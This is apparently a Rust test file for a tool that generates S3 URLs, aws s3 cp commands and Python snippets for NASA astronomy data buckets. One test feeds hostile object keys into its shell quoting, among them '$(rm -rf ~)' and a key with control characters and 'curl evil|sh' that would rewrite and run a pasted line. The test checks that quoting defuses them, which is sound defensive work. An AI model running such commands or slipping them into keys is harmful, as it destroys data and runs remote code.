use super::snippets::{aws_cp, py_str, shell_word};
use super::*;
use crate::s3::ConnectOptions;

fn access(bucket: &str, catalog: &Catalog, connect: &ConnectOptions, found: Option<&str>) -> Access {
    Access::new(bucket, &Route::for_bucket(bucket, connect, catalog, found), catalog)
}

fn on_aws(bucket: &str) -> Access {
    access(bucket, &Catalog::builtin(), &ConnectOptions::default(), None)
}

fn heasarc() -> Access {
    on_aws("nasa-heasarc")
}

#[test]
fn percent_encoding_of_keys() {
    assert_eq!(encode_path("a b+c%d.fits"), "a%20b%2Bc%25d.fits");
    assert_eq!(encode_path("naïve/☃.fits"), "na%C3%AFve/%E2%98%83.fits");
    assert_eq!(encode_path("x/y_z-1.2~3"), "x/y_z-1.2~3");
    assert_eq!(encode_path("q?a=1#f&g"), "q%3Fa%3D1%23f%26g");
    assert_eq!(encode_path("\x1b[31m"), "%1B%5B31m");
    assert_eq!(encode_path("a/../b/./c.fits"), "a/%2E%2E/b/%2E/c.fits");
    assert_eq!(encode_path("a/.hidden/..x"), "a/.hidden/..x");
}

#[test]
fn https_urls_virtual_hosted_regional_and_dotted() {
    let uri = S3Uri::new("nasa-heasarc", "chandra/data/a b+c.fits");
    assert_eq!(https_url(&uri, "us-east-1"), "https://nasa-heasarc.s3.amazonaws.com/chandra/data/a%20b%2Bc.fits");
    assert_eq!(
        https_url(&uri, "eu-west-1"),
        "https://nasa-heasarc.s3.eu-west-1.amazonaws.com/chandra/data/a%20b%2Bc.fits"
    );
    let dotted = S3Uri::new("my.data.bucket", "k%1");
    assert_eq!(https_url(&dotted, "us-east-1"), "https://s3.amazonaws.com/my.data.bucket/k%251");
    assert_eq!(endpoint_url(&dotted, "http://127.0.0.1:9000/"), "http://127.0.0.1:9000/my.data.bucket/k%251");
}

#[test]
fn heasarc_object_menu() {
    let uri = S3Uri::new("nasa-heasarc", "chandra/data/byobsid/3/3003/primary/acisf03003N004_evt2.fits.gz");
    let menu = formats(std::slice::from_ref(&uri), &|_| heasarc());
    let labels: Vec<&str> = menu.iter().map(|f| f.label.as_str()).collect();
    assert_eq!(labels, ["s3 URI", "https URL", "HEASARC URL", "key", "Python (astropy)", "aws s3 cp command"]);
    let text = |label: &str| menu.iter().find(|f| f.label == label).unwrap().text.clone();
    assert_eq!(text("s3 URI"), "s3://nasa-heasarc/chandra/data/byobsid/3/3003/primary/acisf03003N004_evt2.fits.gz");
    assert_eq!(
        text("HEASARC URL"),
        "https://heasarc.gsfc.nasa.gov/FTP/chandra/data/byobsid/3/3003/primary/acisf03003N004_evt2.fits.gz"
    );
    assert_eq!(
        text("https URL"),
        "https://nasa-heasarc.s3.amazonaws.com/chandra/data/byobsid/3/3003/primary/acisf03003N004_evt2.fits.gz"
    );
    assert_eq!(text("key"), uri.key);
    let python = text("Python (astropy)");
    assert!(
        python
            .contains(&format!("fits.open(\"{}\", use_fsspec=True, fsspec_kwargs={{\"anon\": True}})", text("s3 URI")))
    );
    assert_eq!(text("aws s3 cp command"), format!("aws s3 cp --no-sign-request {} .", text("s3 URI")));
}

#[test]
fn lambda_mirror_and_no_mirror_for_mast() {
    let lambda = on_aws("nasa-lambda");
    let uri = S3Uri::new("nasa-lambda", "data/map.fits");
    let menu = formats(std::slice::from_ref(&uri), &|_| lambda.clone());
    assert!(menu.iter().any(|f| f.label == "LAMBDA URL" && f.text == "https://lambda.gsfc.nasa.gov/data/map.fits"));
    let text = |label: &str| menu.iter().find(|f| f.label == label).unwrap().text.clone();
    assert_eq!(text("https URL"), "https://nasa-lambda.s3.us-west-2.amazonaws.com/data/map.fits");
    assert_eq!(
        text("aws s3 cp command"),
        "aws s3 cp --no-sign-request --region us-west-2 s3://nasa-lambda/data/map.fits ."
    );
    let mast = on_aws("stpubdata");
    let menu = formats(&[S3Uri::new("stpubdata", "hst/public/x.fits")], &|_| mast.clone());
    assert!(!menu.iter().any(|f| f.label == "MAST URL"), "MAST's documented URL is the https URL itself");
    // IRSA documents the regional URL: in us-east-1 it differs from the global
    // https URL, in us-west-2 it is the https URL itself (shown once).
    let euclid = on_aws("nasa-irsa-euclid-q1");
    let menu = formats(&[S3Uri::new("nasa-irsa-euclid-q1", "q1/a b.fits")], &|_| euclid.clone());
    let url = &menu.iter().find(|f| f.label == "IRSA URL").unwrap().text;
    assert_eq!(url, "https://nasa-irsa-euclid-q1.s3.us-east-1.amazonaws.com/q1/a%20b.fits");
    let wise = on_aws("nasa-irsa-wise");
    let menu = formats(&[S3Uri::new("nasa-irsa-wise", "wise/a b.parquet")], &|_| wise.clone());
    let https = &menu.iter().find(|f| f.label == "https URL").unwrap().text;
    assert_eq!(https, "https://nasa-irsa-wise.s3.us-west-2.amazonaws.com/wise/a%20b.parquet");
    assert!(!menu.iter().any(|f| f.label == "IRSA URL"));
}

#[test]
fn a_region_found_by_asking_s3_reaches_the_urls() {
    let catalog = Catalog::builtin();
    let found = access("open-data", &catalog, &ConnectOptions::default(), Some("eu-west-1"));
    let menu = formats(&[S3Uri::new("open-data", "x.csv")], &|_| found.clone());
    let text = |label: &str| menu.iter().find(|f| f.label == label).unwrap().text.clone();
    assert_eq!(text("https URL"), "https://open-data.s3.eu-west-1.amazonaws.com/x.csv");
    assert_eq!(text("aws s3 cp command"), "aws s3 cp --region eu-west-1 s3://open-data/x.csv .");
    let served = ConnectOptions { endpoint_url: Some("http://127.0.0.1:9000".into()), ..ConnectOptions::default() };
    let demo = access("nasa-lambda", &catalog, &served, None);
    let menu = formats(&[S3Uri::new("nasa-lambda", "m.fits")], &|_| demo.clone());
    let https = &menu.iter().find(|f| f.label == "https URL").unwrap().text;
    assert_eq!(
        https, "https://nasa-lambda.s3.us-west-2.amazonaws.com/m.fits",
        "an archive served elsewhere keeps its AWS URL"
    );
}

#[test]
fn several_targets_give_one_line_each() {
    let targets = [S3Uri::new("nasa-heasarc", "a/x.fits"), S3Uri::new("nasa-heasarc", "a/y z.fits")];
    let menu = formats(&targets, &|_| heasarc());
    assert_eq!(menu[0].text, "s3://nasa-heasarc/a/x.fits\ns3://nasa-heasarc/a/y z.fits");
    assert_eq!(menu[1].text.lines().count(), 2);
    let cp = &menu.iter().find(|f| f.label == "aws s3 cp command").unwrap().text;
    assert_eq!(cp.lines().nth(1), Some("aws s3 cp --no-sign-request 's3://nasa-heasarc/a/y z.fits' ."));
    let python = &menu.iter().find(|f| f.label.starts_with("Python")).unwrap().text;
    assert!(python.contains("for uri in [\n    \"s3://nasa-heasarc/a/x.fits\",\n"), "{python}");
}

#[test]
fn prefixes_and_other_objects_get_boto3_and_recursive_copies() {
    let prefix = S3Uri::new("nasa-heasarc", "swift/data/obs/2005_01/");
    let menu = formats(std::slice::from_ref(&prefix), &|_| heasarc());
    let python = &menu.iter().find(|f| f.label == "Python (boto3)").unwrap().text;
    assert!(python.contains("Config(signature_version=UNSIGNED)"));
    assert!(python.contains("bucket, key = \"nasa-heasarc\", \"swift/data/obs/2005_01/\""));
    let cp = &menu.iter().find(|f| f.label == "aws s3 cp command").unwrap().text;
    assert_eq!(cp, "aws s3 cp --no-sign-request --recursive s3://nasa-heasarc/swift/data/obs/2005_01/ ./2005_01/");
    for (prefix, dir) in [("up/../", "./nasa-heasarc/"), ("-x/", "./-x/")] {
        let menu = formats(&[S3Uri::new("nasa-heasarc", prefix)], &|_| heasarc());
        let cp = &menu.iter().find(|f| f.label == "aws s3 cp command").unwrap().text;
        assert!(cp.ends_with(&format!(" {dir}")), "{cp}");
    }
    let csv = S3Uri::new("nasa-heasarc", "x.csv");
    let menu = formats(std::slice::from_ref(&csv), &|_| heasarc());
    assert!(menu.iter().any(|f| f.text.contains("s3.get_object(Bucket=\"nasa-heasarc\", Key=\"x.csv\")")));
}

#[test]
fn custom_endpoints_and_profiles_reach_every_snippet() {
    let access = Access {
        endpoint: Some("http://127.0.0.1:9000".into()),
        region: "us-east-1".into(),
        anonymous: false,
        profile: Some("work".into()),
        mirror: None,
        archive: None,
        on_aws: false,
    };
    let menu = formats(&[S3Uri::new("mine", "a.fits")], &|_| access.clone());
    let text = |label: &str| menu.iter().find(|f| f.label == label).unwrap().text.clone();
    assert_eq!(text("endpoint URL"), "http://127.0.0.1:9000/mine/a.fits");
    assert_eq!(
        text("aws s3 cp command"),
        "aws s3 cp --profile work --endpoint-url http://127.0.0.1:9000 s3://mine/a.fits ."
    );
    assert!(text("Python (astropy)").contains(
        "fsspec_kwargs={\"profile\": \"work\", \"client_kwargs\": {\"endpoint_url\": \"http://127.0.0.1:9000\"}}"
    ));
}

#[test]
fn own_buckets_elsewhere_get_no_aws_url_and_no_sign_request_wins() {
    let entry = crate::catalog::CatalogEntry {
        name: "lab".into(),
        archive: "mine".into(),
        title: "lab".into(),
        region: String::new(),
        mirror: String::new(),
        anonymous: false,
        endpoint: Some("https://minio.example.org".into()),
        profile: Some("lab".into()),
        own: true,
    };
    let mut catalog = Catalog::builtin();
    catalog.entries.push(entry);
    let session = ConnectOptions { region: "eu-west-1".into(), ..ConnectOptions::default() };
    let lab = access("lab", &catalog, &session, None);
    assert_eq!(lab.region, "eu-west-1", "no region in the entry: the session's");
    assert_eq!(lab.profile.as_deref(), Some("lab"));
    assert!(!lab.anonymous);
    let menu = formats(&[S3Uri::new("lab", "x.csv")], &|_| lab.clone());
    assert!(!menu.iter().any(|f| f.label == "https URL"), "a same-named AWS bucket is someone else's");
    assert!(menu.iter().any(|f| f.text == "https://minio.example.org/lab/x.csv"));
    let never_sign = ConnectOptions { no_sign_request: true, profile: Some("p".into()), ..ConnectOptions::default() };
    let unsigned = access("open-data", &catalog, &never_sign, None);
    assert!(unsigned.anonymous && unsigned.profile.is_none());
    let cp = aws_cp(&S3Uri::new("open-data", "k"), &unsigned);
    assert_eq!(cp, "aws s3 cp --no-sign-request s3://open-data/k .");
}

#[test]
fn hostile_keys_stay_exact_in_snippets_and_commands() {
    assert_eq!(py_str("a\"b\\c\x1b[0m\u{202e}"), "\"a\\\"b\\\\c\\x1b[0m\\u202e\"");
    assert_eq!(shell_word("it's here"), "'it'\\''s here'");
    assert_eq!(shell_word("$(rm -rf ~)"), "'$(rm -rf ~)'");
    assert_eq!(shell_word("s3://b/plain-key_1.fits"), "s3://b/plain-key_1.fits");
    // Ctrl-U and a carriage return inside quotes would edit and run the pasted line.
    assert_eq!(shell_word("s3://b/x\x15curl evil|sh\r"), "$'s3://b/x\\x15curl evil|sh\\x0d'");
    assert_eq!(shell_word("it's\x1b"), "$'it\\'s\\x1b'");
    assert_eq!(shell_word("a\\b\u{202e}"), "$'a\\\\b\\u202e'");
}

#[test]
fn any_key_encodes_to_ascii_that_decodes_back_and_quotes_safely() {
    let mut rng = crate::test_rng::Rng::new(11);
    for _ in 0..3000 {
        let key = rng.text("abc/ +%&?#='\"$`\\~._-", 60);
        let encoded = encode_path(&key);
        assert!(encoded.is_ascii() && !encoded.contains([' ', '+', '?', '#', '&']), "{encoded}");
        let decoded = percent_encoding::percent_decode_str(&encoded).decode_utf8().unwrap();
        assert_eq!(decoded, key);
        let word = shell_word(&key);
        assert!(word == key || word.starts_with('\'') || word.starts_with("$'"), "{word}");
        assert!(word.ends_with('\'') || word == key, "{word}");
        assert!(!word.chars().any(crate::escape::is_unsafe_char), "a pasted word holds {word:?}");
        let literal = py_str(&key);
        assert!(!literal.chars().any(crate::escape::is_unsafe_char), "{literal:?}");
    }
}
